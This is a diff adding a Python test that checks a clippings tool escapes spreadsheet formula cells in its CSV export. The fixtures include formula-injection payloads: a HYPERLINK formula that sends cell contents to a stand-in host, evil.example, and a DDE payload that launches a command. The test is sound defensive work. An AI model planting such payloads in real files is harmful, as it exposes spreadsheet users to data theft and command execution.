@@ -643,3 +643,22 @@ def test_clippings_o_never_replaces_a_file_or_a_link_unless_told(
         assert code == (0 if replaced else 1)
         assert ("We know the numbers" in mine.read_text(encoding="utf-8")) is replaced
     assert sorted(path.name for path in tmp_path.iterdir()) == ["data", "link.md", "mine.md", "target.md"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_mark_and_read_back_the_same() -> None:
+    """Opened in a spreadsheet, a quote or note starting "=HYPERLINK(" ran as a formula (and
+    "=cmd|..." as a program, through DDE); exports quote such cells as spreadsheets do."""
+    texts = [
+        '=HYPERLINK("http://evil.example/?"&A1,"x")',
+        "+1+cmd|' /C calc'!A0",
+        "-2",
+        "@SUM(1)",
+        "'=already",
+    ]
+    saved = [replace(clipping(quote=text, note=text), id=number) for number, text in enumerate(texts, 1)]
+    written = export(saved, "csv")
+    rows = list(csv.reader(io.StringIO(written, newline="")))
+    header = rows[0]
+    for row, text in zip(rows[1:], texts, strict=True):
+        assert row[header.index("quote")] == "'" + text and row[header.index("note")] == "'" + text
+    assert from_csv(written) == saved
